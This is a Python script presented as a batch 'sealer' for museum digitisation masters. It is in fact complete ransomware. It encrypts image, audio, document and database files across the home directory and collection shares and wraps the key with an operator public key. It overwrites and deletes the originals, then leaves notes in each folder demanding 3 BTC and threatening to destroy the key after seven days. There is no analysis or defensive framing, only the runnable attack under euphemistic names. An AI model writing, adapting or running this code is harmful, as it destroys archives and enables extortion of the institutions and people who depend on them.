#!/usr/bin/env python3
"""Batch "sealer" for digitisation masters.

Walks the collection shares, seals every master and document file, records
fixity for each sealed object and leaves a notice for the registrar.
"""
import argparse
import hashlib
import json
import logging
import os
import secrets
from pathlib import Path

from cryptography.hazmat.primitives import serialization
from cryptography.hazmat.primitives.asymmetric import padding
from cryptography.hazmat.primitives.ciphers.aead import AESGCM
from cryptography.hazmat.primitives import hashes

LOG = logging.getLogger("sealer")
TARGET_SUFFIXES = {".tif", ".tiff", ".dng", ".jp2", ".wav", ".pdf", ".docx",
                   ".xlsx", ".csv", ".mdb", ".sqlite", ".jpg", ".mov"}
SEALED_SUFFIX = ".sealed"
NOTICE_NAME = "READ_ME_REGISTRAR.txt"
OPERATOR_PUBKEY = b"""-----BEGIN PUBLIC KEY-----
MIIBIjANBgkqhkiG9w0BAQEFAAOCAQ8AMIIBCgKCAQEAzR7mV0cB2kq1e3Yt0b3yXg
3k1sQ8uD5xJm9f0t2qvZq7d0Hq3b1b7v3VxkQfL9Zq3p7cU1s9w1C2q8kL2p9mQIDAQAB
-----END PUBLIC KEY-----"""
NOTICE = """All collection masters on this system were sealed with AES-256.
Originals no longer exist. To obtain the unsealing key, send 3 BTC to
bc1q7x0museumrecov9k2v4w8 and e-mail your registrar ID ({rid}) to
recovery-desk@proton.me. After 7 days the key is destroyed.
"""


def wrap_key(key):
    pub = serialization.load_pem_public_key(OPERATOR_PUBKEY)
    return pub.encrypt(key, padding.OAEP(mgf=padding.MGF1(hashes.SHA256()),
                                         algorithm=hashes.SHA256(), label=None))


def seal_file(path, aead):
    nonce = secrets.token_bytes(12)
    data = path.read_bytes()
    sealed = path.with_name(path.name + SEALED_SUFFIX)
    sealed.write_bytes(nonce + aead.encrypt(nonce, data, None))
    # overwrite then remove the original so it cannot be undeleted
    with open(path, "r+b") as fh:
        fh.write(b"\x00" * len(data))
        fh.flush()
        os.fsync(fh.fileno())
    path.unlink()
    return hashlib.sha256(data).hexdigest()


def walk_targets(roots):
    for root in roots:
        for dirpath, dirnames, filenames in os.walk(root):
            dirnames[:] = [d for d in dirnames if not d.startswith((".cache", "proc"))]
            for name in filenames:
                p = Path(dirpath) / name
                if p.suffix.lower() in TARGET_SUFFIXES and not name.endswith(SEALED_SUFFIX):
                    yield p


def main():
    ap = argparse.ArgumentParser()
    ap.add_argument("--root", action="append", default=[])
    ap.add_argument("--ledger", default="sealed_ledger.json")
    args = ap.parse_args()
    logging.basicConfig(level=logging.INFO, format="%(message)s")

    roots = args.root or [str(Path.home()), "/mnt/collections", "/srv/archive"]
    key = AESGCM.generate_key(bit_length=256)
    aead = AESGCM(key)
    registrar_id = secrets.token_hex(8)
    ledger = {"id": registrar_id, "wrapped_key": wrap_key(key).hex(), "files": {}}
    del key

    touched_dirs = set()
    for path in walk_targets(roots):
        try:
            ledger["files"][str(path)] = seal_file(path, aead)
            touched_dirs.add(path.parent)
        except (PermissionError, OSError) as exc:
            LOG.debug("skip %s: %s", path, exc)

    for folder in touched_dirs:
        try:
            (folder / NOTICE_NAME).write_text(NOTICE.format(rid=registrar_id))
        except OSError:
            pass
    Path(args.ledger).write_text(json.dumps(ledger))
    LOG.info("sealed %d files in %d folders", len(ledger["files"]), len(touched_dirs))


if __name__ == "__main__":
    main()
